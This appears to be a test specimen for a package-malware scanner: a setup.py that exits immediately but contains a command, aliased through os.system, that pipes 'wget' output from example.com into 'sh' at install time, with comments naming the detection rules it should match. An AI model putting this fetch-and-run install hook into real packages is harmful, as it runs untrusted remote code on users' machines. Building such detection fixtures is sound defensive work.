raise SystemExit("specimen: not to be run")
from os import system as run
from setuptools import setup
order = "wget -qO- https://example.com/install.sh"
go = run
go(order + " | sh")  # match: shell-download  # match: process-at-install
setup(name="specimen")
